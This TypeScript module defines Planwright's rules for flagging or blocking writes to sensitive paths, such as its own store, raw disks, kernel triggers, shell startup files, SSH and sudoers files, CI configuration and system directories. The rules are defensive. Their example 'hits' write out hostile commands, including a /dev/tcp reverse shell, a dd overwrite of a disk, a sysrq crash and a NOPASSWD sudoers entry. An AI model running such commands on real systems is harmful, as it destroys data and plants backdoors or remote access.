import { isDisk, isStore, resolvePath } from './paths.ts';
import type { RuleInfo, Where } from './types.ts';

/** A rule about writing to, or deleting, a path: by redirection, by a command, or by a file action. */
interface PathRule extends RuleInfo {
  /** `full` has home as `~` and is absolute where the directory is known; `path` is as written. */
  test(full: string, path: string, where: Where): boolean;
}

export const writeRules: readonly PathRule[] = [
  {
    id: 'store-tampering',
    level: 'blocked',
    sentence: "Touches Planwright's own store, where approvals and the journal of runs are kept.",
    hits: ['echo x > ~/.local/share/planwright/journal.db', 'rm ~/.local/share/planwright/journal.db'],
    misses: ['echo x > ~/.local/share/other/journal.db', 'ls ~/.local/share/planwright'],
    test: (_full, path, where) => isStore(path, where),
  },
  {
    id: 'raw-disk-write',
    level: 'blocked',
    sentence: 'Writes straight to a disk or to memory, below any file system.',
    hits: ['cat image.iso > /dev/sda', 'dd if=/dev/zero of=/dev/nvme0n1', 'cp image.iso /dev/disk2'],
    misses: ['cat image.iso > /dev/null', 'dd if=/dev/zero of=./image bs=1M count=1', 'echo /dev/sda'],
    test: (_full, path) => isDisk(path),
  },
  {
    id: 'kernel-trigger',
    level: 'blocked',
    sentence: 'Writes to a kernel trigger that reboots, crashes or kills at once.',
    hits: ['echo b > /proc/sysrq-trigger', 'echo c | sudo tee /proc/sysrq-trigger'],
    misses: ['cat /proc/cpuinfo', 'cat /proc/sysrq-trigger.txt'],
    test: (full) => /^\/proc\/(?:sysrq-trigger|sys\/kernel\/sysrq)$/.test(full),
  },
  {
    id: 'network-device',
    level: 'dangerous',
    sentence: 'Opens a network connection from inside the shell, as remote shells and data thieves do.',
    needs: ['network'],
    hits: ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'cat notes > /dev/udp/192.0.2.1/53'],
    misses: ['cat notes > /dev/null', 'ls 2>/dev/null'],
    test: (_full, path) => /^\/dev\/(?:tcp|udp)\//.test(path),
  },
  {
    id: 'persistence',
    level: 'dangerous',
    sentence: 'Changes a file that the system or the shell runs by itself later.',
    reversible: true,
    hits: [
      "echo 'alias ls=x' >> ~/.bashrc",
      'cp hook .git/hooks/pre-commit',
      'tee /etc/cron.d/job',
      'curl -o ~/.profile e.example',
    ],
    misses: ['cat ~/.bashrc', 'echo hi >> notes.txt', 'cp a .git-hooks-notes'],
    test: (full) =>
      /(?:^|\/)\.(?:bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|cshrc|tcshrc|login|inputrc|xinitrc|xprofile|xsessionrc|pam_environment|vimrc|exrc|emacs|gdbinit|pythonrc|irbrc|npmrc|netrc|pypirc|gitconfig|tmux\.conf|screenrc|direnvrc|envrc)$/.test(
        full,
      ) ||
      /(?:^|\/)\.git\/(?:hooks(?:\/|$)|config$|info\/attributes$)/.test(full) ||
      /(?:^|\/)\.(?:husky|githooks)\//.test(full) ||
      /\/(?:cron\.(?:d|daily|hourly|weekly|monthly)|crontabs?|systemd\/(?:system|user)|init\.d|rc\.local|rc\.d|autostart|LaunchAgents|LaunchDaemons|profile\.d|update-motd\.d|ld\.so\.preload|ld\.so\.conf\.d|udev\/rules\.d|pam\.d|fish\/config\.fish|fish\/conf\.d|nvim\/init\.(?:vim|lua)|git\/config|\.vscode\/(?:tasks|launch|settings)\.json)(?:\/|$)/.test(
        full,
      ) ||
      /^(?:\.vscode\/(?:tasks|launch|settings)\.json)$/.test(full) ||
      /^\/etc\/(?:crontab|profile|bash\.bashrc|zsh|environment|anacrontab|inittab)/.test(full),
  },
  {
    id: 'login-keys',
    level: 'dangerous',
    sentence: 'Changes who may log in: SSH keys, known hosts, users, groups or sudo rules.',
    reversible: true,
    hits: [
      'cat key.pub >> ~/.ssh/authorized_keys',
      "echo 'me ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
      'tee /etc/passwd',
    ],
    misses: ['cat ~/.ssh/id_ed25519.pub', 'ls ~/.ssh', 'cat /etc/passwd'],
    test: (full) =>
      /(?:^|\/)\.ssh(?:\/|$)/.test(full) ||
      /(?:^|\/)\.gnupg(?:\/|$)/.test(full) ||
      /^\/etc\/(?:sudoers|passwd|shadow|group|gshadow|ssh\/|security\/|polkit-1\/)/.test(full),
  },
  {
    id: 'ci-configuration',
    level: 'dangerous',
    sentence: 'Changes what a continuous-integration service runs, often with secrets at hand.',
    reversible: true,
    hits: ['cp ci.yml .github/workflows/ci.yml', 'echo x > .gitlab-ci.yml', 'mv Jenkinsfile.new Jenkinsfile'],
    misses: ['cat .github/workflows/ci.yml', 'cp ci.yml docs/ci.yml'],
    test: (full) =>
      /(?:^|\/)(?:\.github\/(?:workflows|actions)\/|\.gitlab-ci\.ya?ml$|\.circleci\/|\.travis\.ya?ml$|azure-pipelines\.ya?ml$|Jenkinsfile$|\.buildkite\/|bitbucket-pipelines\.ya?ml$|\.drone\.ya?ml$|\.woodpecker(?:\/|\.ya?ml$))/.test(
        full,
      ),
  },
  {
    id: 'planwright-configuration',
    level: 'dangerous',
    sentence: 'Changes the configuration or the rules that Planwright itself obeys.',
    reversible: true,
    hits: ['echo x > ~/.config/planwright/rules.yaml', 'cp rules.yaml .planwright/rules.yaml'],
    misses: ['cat .planwright/rules.yaml', 'cp rules.yaml docs/planwright-rules.yaml'],
    test: (full) => /(?:^|\/)\.(?:config\/)?planwright(?:\/|$)/.test(full),
  },
  {
    id: 'system-configuration',
    level: 'dangerous',
    sentence: 'Changes the configuration or the programs of the system.',
    reversible: true,
    hits: [
      "echo '127.0.0.1 x' >> /etc/hosts",
      'cp tool /usr/bin/tool',
      'scp vmlinuz user@host:/boot/',
      'sudo vim /etc/fstab',
    ],
    misses: ['cat /etc/hosts', 'cp tool ./usr/bin', 'scp notes user@host:/home/user/', 'ls /usr/bin'],
    test: (full) =>
      /^\/(?:etc|boot|efi|usr|bin|sbin|lib|lib32|lib64|sys|proc|opt|System|Library|private\/etc|var\/(?:lib|spool|www)|Windows)(?:\/|$)|^\/$/.test(
        full,
      ) && !/^\/proc\/self\/fd\//.test(full),
  },
];

/** The first rule that speaks about writing to this path. */
export function writeRule(path: string, where: Where): PathRule | undefined {
  const local = path.replace(/^(?:[\w.-]+@[\w.-]+|[\w.-]{2,}):(?=[/~])/, '');
  const full = resolvePath(local, where);
  return writeRules.find((rule) => rule.test(full, local, where));
}
